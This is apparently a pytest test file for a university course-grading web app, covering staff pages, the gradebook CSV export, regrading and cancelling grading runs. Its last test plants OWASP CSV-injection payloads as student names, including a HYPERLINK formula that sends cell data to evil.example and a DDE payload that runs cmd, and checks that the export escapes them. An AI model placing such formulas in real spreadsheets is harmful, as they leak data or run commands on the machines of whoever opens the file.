"""The instructors' pages: overview, one exercise, one student, gradebook and CSV, regrading."""

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from helpers import COURSE_ORDER, REFERENCE_Q, dispatcher, grade, grade_next, logged_in, the_course
from sqlalchemy import select

from server.core.catalogue import default_root, load_exercise_info
from server.core.models import Enrolment, Exercise, Submission, User
from server.core.users import add_user
from server.web.submissions import Rules, accept, reopen

SIGN_FLIPPED = (
    Path(__file__).parents[2] / "exercises" / "autograd-q" / "mutants" / "plus_b_squared.py"
).read_text()


@pytest.fixture
def graded_course(course, executor, catalogue):
    """ana: full marks; bea: a sign-flipped gradient, then full marks; carl: nothing; prof
    teaches, and tries the exercise out (which the course's figures leave out)."""
    database = course.extensions["hpcgrade.db"]
    with course.app_context():
        session = database.sessions()
        add_user(session, "carl", "Carl", "c@uni.es", "student", "long-password")
        add_user(session, "prof", "Pilar", "p@uni.es", "instructor", "long-password")
        users = {u.username: u for u in session.scalars(select(User))}
        exercise = session.scalar(select(Exercise).where(Exercise.slug == "autograd-q"))
        submissions = [
            accept(
                session,
                users[name],
                exercise,
                "work.py",
                code.encode(),
                Rules(1024, 100, 60),
                dt.datetime.now(dt.timezone.utc),
            )
            for name, code in [
                ("ana", REFERENCE_Q),
                ("bea", SIGN_FLIPPED),
                ("bea", REFERENCE_Q),
                ("prof", SIGN_FLIPPED),
            ]
        ]
        session.commit()
        ids = [submission.id for submission in submissions]
        session.close()
        # the queue takes them round-robin between students, not in this order
        outcomes = [grade_next(database, executor, catalogue) for _ in ids]
        assert sorted(outcomes) == [(i, "graded") for i in ids]
    return course, ids


def test_only_staff_get_in(graded_course):
    app, ids = graded_course
    student, token = logged_in(app, "ana")
    for path in (
        "/courses/pytorch/staff/",
        "/courses/pytorch/staff/grades",
        "/courses/pytorch/staff/grades.csv",
        "/courses/pytorch/staff/exercises/autograd-q",
        "/courses/pytorch/staff/students/bea",
    ):
        assert student.get(path).status_code == 403
    assert (
        student.post(
            f"/courses/pytorch/staff/submissions/{ids[0]}/regrade", data={"csrf_token": token}
        ).status_code
        == 403
    )
    assert "Course" not in student.get("/courses/pytorch/").text
    assert app.test_client().get("/courses/pytorch/staff/").headers["Location"].startswith("/login")


def test_the_course_at_a_glance(graded_course):
    app, _ = graded_course
    client, _ = logged_in(app, "prof")
    overview = client.get("/courses/pytorch/staff/").text
    row = re.search(r"Gradients of a non-scalar function.*?</tr>", overview, re.S).group(0)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
    # deadline, students, submissions, mean best, full marks, waiting / errors
    assert [c.strip() for c in cells[:6]] == [
        "31 Jan 2027, 22:59 UTC",
        "2 / 3",
        "3",
        "10 / 10",
        "2",
        "—",
    ]
    assert "/courses/pytorch/staff/exercises/autograd-q/diagnostics/grad-sign-flipped" in cells[6]
    assert "1 student<" in cells[6]
    page = client.get("/courses/pytorch/staff/exercises/autograd-q").text
    assert re.search(r"grad-sign-flipped</code></a></td><td>1</td><td>1</td>", page)
    assert "Carl" in page and "nothing submitted" in page
    assert client.get("/courses/pytorch/staff/exercises/no-such-thing").status_code == 404
    assert "Curso" in client.get("/courses/pytorch/staff/?lang=es").text


def test_gradebook_and_csv(graded_course):
    app, ids = graded_course
    client, _ = logged_in(app, "prof")
    rows = list(csv.reader(io.StringIO(client.get("/courses/pytorch/staff/grades.csv").text)))
    header, maximum = rows[:2]
    assert header[:3] == ["username", "name", "email"] and "autograd-q" in header
    assert header[-2:] == ["total", "percent"]
    column = header.index("autograd-q")
    assert maximum[:3] == ["", "max_points", ""] and maximum[column] == "10"
    grades = {row[0]: row[column] for row in rows[2:]}
    assert grades == {"ana": "10", "bea": "10", "carl": ""}
    assert len(header) == 3 + len(COURSE_ORDER) + 2  # every exercise, even one nobody submitted
    assert all(cell == "" for row in rows[2:] for i, cell in enumerate(row[3:-2], 3) if i != column)
    grid = client.get("/courses/pytorch/staff/grades").text
    assert f'/courses/pytorch/submissions/{ids[2]}">10<' in grid


def test_staff_see_any_submission_with_its_code_and_runs(graded_course):
    app, ids = graded_course
    client, _ = logged_in(app, "prof")
    page = client.get(f"/courses/pytorch/submissions/{ids[1]}").text
    assert "Bea" in page and "3 * a**3 + b**2" in page and "Grading runs" in page
    assert "grad-sign-flipped" in page
    student, _ = logged_in(app, "ana")
    own = student.get(f"/courses/pytorch/submissions/{ids[0]}").text
    assert "The code submitted" in own and "Grading runs" not in own
    assert (
        client.get("/courses/pytorch/staff/students/bea").text.count(
            "/courses/pytorch/submissions/"
        )
        >= 2
    )
    assert client.get("/courses/pytorch/staff/students/nobody").status_code == 404


def test_regrade_queues_again_and_grades_once_more(graded_course, executor, catalogue):
    app, ids = graded_course
    client, token = logged_in(app, "prof")
    assert (
        client.post(f"/courses/pytorch/staff/submissions/{ids[1]}/regrade").status_code == 400
    )  # no CSRF token
    api = app.test_client()
    bearer = {
        "Authorization": "Bearer "
        + api.post("/api/v1/tokens", json={"username": "bea", "password": "long-password"}).json[
            "token"
        ]
    }
    assert api.get(f"/api/v1/submissions/{ids[1]}", headers=bearer).json["status"] == "graded"
    sent = client.post(
        f"/courses/pytorch/staff/submissions/{ids[1]}/regrade", data={"csrf_token": token}
    )
    assert sent.status_code == 303
    # the graded result the API served before is not served again from its cache
    assert api.get(f"/api/v1/submissions/{ids[1]}", headers=bearer).json["status"] == "queued"
    # requests made inside an app context would share its session, and rolling that back at the
    # end would undo the grading below: this test makes each request on its own
    database = app.extensions["hpcgrade.db"]
    with database.sessions() as session:
        assert session.get(Submission, ids[1]).status == "queued"
    again = client.post(
        f"/courses/pytorch/staff/submissions/{ids[1]}/regrade", data={"csrf_token": token}
    )
    assert "already waiting" in client.get(again.headers["Location"]).text
    assert grade(database, executor, catalogue, ids[1]) == "graded"
    with database.sessions() as session:
        submission = session.get(Submission, ids[1])
        assert submission.status == "graded" and len(submission.runs) == 2
        assert submission.score < submission.max_score
    result = api.get(f"/api/v1/submissions/{ids[1]}", headers=bearer).json
    assert result["status"] == "graded" and result["checks"]


def test_check_titles_in_the_students_language(graded_course):
    app, ids = graded_course
    api = app.test_client()
    bearer = {
        "Authorization": "Bearer "
        + api.post("/api/v1/tokens", json={"username": "bea", "password": "long-password"}).json[
            "token"
        ]
    }
    titles = {
        lang: [
            c["title"]
            for c in api.get(f"/api/v1/submissions/{ids[1]}?lang={lang}", headers=bearer).json[
                "checks"
            ]
        ]
        for lang in ("en", "es")
    }
    assert "2-D inputs" in titles["en"] and "entradas 2-D" in titles["es"]


def test_a_run_shows_where_it_went_and_how_long_it_waited_and_ran(graded_course):
    app, ids = graded_course
    client, _ = logged_in(app, "prof")
    page = client.get(f"/courses/pytorch/submissions/{ids[1]}").text
    runs = re.search(r"Grading runs.*?</table>", page, re.S).group(0)
    cells = [
        re.sub(r"<[^>]+>|\s+", " ", c).strip() for c in re.findall(r"<td>(.*?)</td>", runs, re.S)
    ]
    assert cells[1] == "done" and cells[2] == "local" and cells[4].startswith("cpu · torch 2.13")
    wait, run_time = float(cells[6].removesuffix(" s")), float(cells[7].removesuffix(" s"))
    assert 0 <= wait < 60 and 0 < run_time < 60
    info = load_exercise_info(default_root() / "autograd-q")
    exercise = cells[-1]  # the exercise's files it was graded with (the score's cell has a class)
    assert exercise.startswith(info.version[:12])
    assert exercise.endswith(f"commit {info.commit[:12]}" if info.commit else info.version[:12])


def test_stopping_a_submission_asks_the_workers_and_says_when_they_cannot_hear(graded_course):
    app, ids = graded_course
    client, token = logged_in(app, "prof")
    done = client.post(
        f"/courses/pytorch/staff/submissions/{ids[0]}/cancel", data={"csrf_token": token}
    )
    assert "not waiting to be graded" in client.get(done.headers["Location"]).text
    client.post(f"/courses/pytorch/staff/submissions/{ids[0]}/regrade", data={"csrf_token": token})
    page = client.get(f"/courses/pytorch/submissions/{ids[0]}").text
    assert "Stop grading" in page and "Grade again" not in page
    stopped = client.post(
        f"/courses/pytorch/staff/submissions/{ids[0]}/cancel", data={"csrf_token": token}
    )
    # this app's broker is not there: the submission is left as it was, and staff are told
    assert "grading queue does not answer" in client.get(stopped.headers["Location"]).text
    with app.extensions["hpcgrade.db"].sessions() as session:
        assert session.get(Submission, ids[0]).status == "queued"


def test_stopped_grading_is_no_grade_and_uses_no_attempt(graded_course, executor, catalogue):
    app, ids = graded_course
    database = app.extensions["hpcgrade.db"]
    with database.sessions.begin() as session:
        bea = session.scalar(select(User).where(User.username == "bea"))
        exercise = session.scalar(select(Exercise).where(Exercise.slug == "autograd-q"))
        fresh = accept(
            session,
            bea,
            exercise,
            "late.py",
            REFERENCE_Q.encode(),
            Rules(1024, 100, 60),
            dt.datetime.now(dt.timezone.utc),
        )
        reopen(session.get(Submission, ids[1]))  # a regrade, stopped before its grade
        session.flush()
        fresh_id = fresh.id
    assert dispatcher(database, executor, catalogue).cancel([fresh_id, ids[1]]) == [
        fresh_id,
        ids[1],
    ]
    api = app.test_client()
    bearer = {
        "Authorization": "Bearer "
        + api.post("/api/v1/tokens", json={"username": "bea", "password": "long-password"}).json[
            "token"
        ]
    }
    stopped = api.get(f"/api/v1/submissions/{fresh_id}", headers=bearer).json
    assert stopped["status"] == "cancelled" and stopped["score"] is None
    assert "stopped the grading" in stopped["message"]
    assert api.get(f"/api/v1/submissions/{ids[1]}", headers=bearer).json["score"] == 3
    row = next(
        e
        for e in api.get("/api/v1/exercises", headers=bearer).json["exercises"]
        if e["slug"] == "autograd-q"
    )
    assert row["attempts_used"] == 2


def test_gradebook_csv_cells_never_run_as_formulas(graded_course):
    """OWASP's CSV injection: a name a spreadsheet would run (=HYPERLINK…) is written as text."""
    app, _ = graded_course
    hostile = {
        "eve": '=HYPERLINK("http://evil.example/?"&A1,"grades")',
        "fay": "+1+cmd|' /C calc'!A0",
        "gus": "-2+3",
        "hal": "@SUM(1+1)",
        "ida": "\tTab",
        "joe": "\rReturn",
    }
    with app.app_context():
        session = app.extensions["hpcgrade.db"].sessions()
        # as rows: add_user would strip the names' whitespace
        users = [
            User(username=username, name=name, email=f"{username}@uni.es", password_hash="x")
            for username, name in hostile.items()
        ]
        session.add_all(users)
        session.flush()
        session.add_all(
            Enrolment(user_id=user.id, course_id=the_course(session).id, role="student")
            for user in users
        )
        session.commit()
    client, _ = logged_in(app, "prof")
    rows = {
        row[0]: row
        for row in csv.reader(io.StringIO(client.get("/courses/pytorch/staff/grades.csv").text))
    }
    assert {username: rows[username][1] for username in hostile} == {
        username: "'" + name for username, name in hostile.items()
    }
    assert rows["ana"][1] == "Ana García" and rows["bea"][1] == "Bea Martín"
